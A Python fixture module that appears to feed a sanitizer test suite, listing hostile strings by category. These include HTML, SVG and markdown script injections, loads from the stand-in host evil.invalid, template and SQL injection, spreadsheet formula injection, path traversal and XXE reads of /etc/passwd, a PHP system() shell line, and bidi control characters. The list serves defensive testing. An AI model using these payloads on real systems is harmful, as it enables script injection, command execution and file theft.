"""Strings that have run programs, asked other hosts or broken pages somewhere.

Each calls ``hit`` if it runs, or asks the host ``evil.invalid``. None may do so here, whatever
field or file it stands in. The wording is ours; the list grows, it never shrinks.
"""

HTML = r"""
<script>hit(1)</script>
<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>
<scr<script>ipt>hit(1)</scr</script>ipt>
</script><script>hit(1)</script>
</title><script>hit(1)</script>
</textarea></style></noscript><script>hit(1)</script>
"><script>hit(1)</script>
'><script>hit(1)</script>
--><script>hit(1)</script>
]]><script>hit(1)</script>
<img src=x onerror=hit(1)>
<img/src=x/onerror=hit(1)>
<img src=x oNeRrOr=hit(1)
<img src="x" title=">" onerror="hit(1)">
<img src=//evil.invalid/x.png srcset="//evil.invalid/y.png 2x">
<picture><source srcset=//evil.invalid/z.png><img alt=x></picture>
" onmouseover="hit(1)" x="
' onfocus='hit(1)' autofocus='
" autofocus onfocus=hit(1) tabindex=1 x="
<a href="javascript:hit(1)">x</a>
<a href="JaVaScRiPt:hit(1)">x</a>
<a href=" &#14; javascript:hit(1)">x</a>
<a href="java&#9;script:hit(1)">x</a>
<a href="java&NewLine;script&colon;hit(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;hit(1)">x</a>
<a href="data:text/html,<script>hit(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="file:///etc/passwd">x</a>
<a href="blob:https://evil.invalid/x">x</a>
<a href="//evil.invalid/">x</a>
<a href="\\evil.invalid\x">x</a>
<a href="/\evil.invalid/x">x</a>
<a href="https:evil.invalid">x</a>
<a href=x ping=//evil.invalid/ target=_top>x</a>
<svg onload=hit(1)></svg>
<svg><script>hit(1)</script></svg>
<svg><script xlink:href="data:,hit(1)"/></svg>
<svg><a xlink:href="javascript:hit(1)"><text y=20>x</text></a></svg>
<svg><animate onbegin=hit(1) attributeName=x dur=1s></svg>
<svg><set attributeName=href to=javascript:hit(1)></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.hit(1)</script>"></iframe></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload='hit(1)'/>#x"/></svg>
<math><mtext></p><img src=x onerror=hit(1)></mtext></math>
<math href="javascript:hit(1)">x</math>
<math><annotation-xml encoding="text/html"><script>hit(1)</script></annotation-xml></math>
<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=hit(1)>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit(1)>
<svg></p><style><a title="</style><img src=x onerror=hit(1)>">
<noscript><p title="</noscript><img src=x onerror=hit(1)>">
<template><script>hit(1)</script></template>
<template shadowrootmode=open><script>hit(1)</script></template>
<iframe src="javascript:parent.hit(1)"></iframe>
<iframe srcdoc="&lt;script&gt;parent.hit(1)&lt;/script&gt;"></iframe>
<iframe src=//evil.invalid/></iframe>
<object data="data:text/html,<script>parent.hit(1)</script>"></object>
<object data=//evil.invalid/></object>
<embed src=//evil.invalid/x.swf>
<applet code=x></applet>
<frameset onload=hit(1)>
<base href=//evil.invalid/>
<meta http-equiv=refresh content="0;url=//evil.invalid/">
<meta http-equiv="Content-Security-Policy" content="default-src 'none'">
<link rel=stylesheet href=//evil.invalid/x.css>
<link rel=preload as=script href=//evil.invalid/x.js>
<link rel=import href=//evil.invalid/>
<style>@import '//evil.invalid/x.css';</style>
<style>*{background:url(//evil.invalid/x)}</style>
<p style="background:url(//evil.invalid/x)">x</p>
<p style="width:expression(hit(1))">x</p>
<p style="position:fixed;inset:0;z-index:9999;background:#fff">x</p>
<td style="text-align:right;background:url(//evil.invalid/x)">x</td>
<form action=//evil.invalid/><input name=q><button formaction=javascript:hit(1)>x</button></form>
<form id=__config name=body><input name=cookie></form>
<input autofocus onfocus=hit(1)>
<input type=image src=//evil.invalid/x onerror=hit(1)>
<button onclick=hit(1)>x</button>
<select autofocus onfocus=hit(1)></select>
<textarea autofocus onfocus=hit(1)>
<keygen autofocus onfocus=hit(1)>
<details open ontoggle=hit(1)><summary>x</summary></details>
<marquee onstart=hit(1)>x</marquee>
<video autoplay src=//evil.invalid/x poster=//evil.invalid/y onerror=hit(1)></video>
<audio src=x onerror=hit(1)></audio>
<video><source onerror=hit(1)></video>
<body onload=hit(1) background=//evil.invalid/x>
<html onclick=hit(1)>
<p onclick=hit(1) onpointerenter=hit(1) oncontentvisibilityautostatechange=hit(1)>x</p>
<p popover id=p onbeforetoggle=hit(1)>x</p>
<a id=__config>x</a>
<a id=content name=content>x</a>
<p id=__search class="md-search" data-md-component="search">x</p>
<p class="cw-header md-dialog" data-md-component=dialog>x</p>
<plaintext>
<xmp><script>hit(1)</script>
<!-- a comment --!><script>hit(1)</script>
<!--><script>hit(1)</script>-->
<![CDATA[<script>hit(1)</script>]]>
<?xml-stylesheet href="javascript:hit(1)"?>
<?php system($_GET['x']); ?>
<!--#include virtual="/etc/passwd" -->
<%= 7*7 %>
<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;
&lt;script&gt;hit(1)&lt;/script&gt;
&lt;img src=x onerror=hit(1)&gt;
&amp;lt;img src=x onerror=hit(1)&amp;gt;
&#60;script&#62;hit(1)&#60;/script&#62;
&quot;&gt;&lt;img src=x onerror=hit(1)&gt;
<p title="&quot;&gt;&lt;img src=x onerror=hit(1)&gt;">x</p>
<abbr title='"><img src=x onerror=hit(1)>'>x</abbr>
<h2 id="content">x</h2>
<div markdown="1"><script>hit(1)</script></div>
<div
<
</div></div></article></main></body></html>
<div><section><article><table><tr><td>
"""

MARKDOWN = r"""
[x](javascript:hit(1))
[x](JAVASCRIPT:hit(1))
[x](&#106;avascript:hit(1))
[x](java&#10;script:hit(1))
[x](<javascript:hit(1)>)
[x](<java
script:hit(1)>)
[x](javascript&colon;hit(1))
[x](data:text/html,<script>hit(1)</script>)
[x](vbscript:msgbox(1))
[x](//evil.invalid/)
[x](x "t" onmouseover="hit(1)")
[x](x 't" onmouseover="hit(1)')
[x](https://x.invalid/"onmouseover="hit(1))
[x](https://x.invalid/<script>hit(1)</script>)
![x](x"onerror="hit(1))
![x" onerror="hit(1)](x)
![x](javascript:hit(1))
![x](data:image/svg+xml,<svg/onload=hit(1)>)
![x](//evil.invalid/x.png)
![x](x 'a" onerror="hit(1)')
[x][r] ![x][r] [r]: javascript:hit(1)
[r]: javascript:hit(1) "x"
<javascript:hit(1)>
<data:text/html,x>
<https://x.invalid/"onmouseover="hit(1)>
<mailto:x.invalid?subject="><script>hit(1)</script>>
`</code><script>hit(1)</script>`
```<script>hit(1)</script>
~~~ {onclick=hit(1)}
# x {onclick=hit(1) id=__config}
x {: onclick="hit(1)" style="background:url(//evil.invalid/)" }
[x](x){onclick=hit(1)}
[^"><script>hit(1)</script>]: x
x[^__proto__] [^__proto__]: <img src=x onerror=hit(1)>
*[x]: "><script>hit(1)</script>
!!! note "<img src=x onerror=hit(1)>"
!!! "note onclick=hit(1)"
> [!NOTE]<script>hit(1)</script>
- [ ] <input onfocus=hit(1) autofocus>
| <script>hit(1)</script> | x |
: <script>hit(1)</script>
[[x|<img src=x onerror=hit(1)>]]
[[<img src=x onerror=hit(1)>]]
[[javascript:hit(1)]]
crosswalk:0 [x](crosswalk:0) <a href="crosswalk:9">x</a>
"""

OTHERS = r"""
{{7*7}}
{{ config.__class__.__mro__ }}
{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}
{%raw%}{{x}}{%endraw%}
{# x
%(x)s %s %n %x
${7*7} #{7*7} @{7*7} <%=7*7%>
{0.__class__} {x!r:>99999999}
$(touch /tmp/hit) `touch /tmp/hit`
; DROP TABLE findings; --
' OR '1'='1
=HYPERLINK("https://evil.invalid/","x")
=cmd|' /C calc'!A0
+1+1
-1+cmd|' /C calc'!A0
@SUM(1+1)
../../../../etc/passwd
..%2f..%2f..%2fetc%2fpasswd
..\..\..\windows\win.ini
C:\Windows\win.ini
/etc/passwd
file:///etc/passwd
javascript:hit(1)
JaVaScRiPt:hit(1)//
data:text/html,<script>hit(1)</script>
https://x.invalid/"onmouseover="hit(1)
mailto:x.invalid"onmouseover="hit(1)
__proto__
constructor.prototype
<crosswalk:0>
""".strip("\n").split("\n")
CONTROLS = (
    "a\u2028hit(1)\u2029b",
    "evil\u202egnp.exe",
    "\u2066\u2067\u2068x",
    "a\x00<script>hit(1)</script>",
    "<a href='java\x00script:hit(1)'>x</a>",
    "<a href='\x01javascript:hit(1)'>x</a>",
    "[x](\x01javascript:hit(1))",
    "<scr\x00ipt>hit(1)</scr\x00ipt>",
    "\x1b[2Jx\x1b]0;x\x07",
    "\x7f\x85\x9b",
    "\ufeff<script>hit(1)</script>",
    "<img src=x onerror\x0b=hit(1)>",
    "\ue000\u0030\ue001 &#xE000;0&#xE001;",
    "＜script＞hit(1)＜/script＞",
    "<ſcript>hit(1)</ſcript>",
    "\u00a0\u200b\u200d",
    "&#x202e;gnp.exe &#0;&#x1b;[2J &#x2068;",
)
HIDDEN = tuple("\x00\x01\x07\x1b\x7f\x85\x9b\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069")
"""Characters that no page may hold: they steer programs, or turn the order of letters round."""
STRINGS = (
    *HTML.strip("\n").split("\n"),
    *MARKDOWN.replace("<java\nscript", "<java\\nscript").strip("\n").split("\n"),
    *OTHERS,
    *CONTROLS,
)
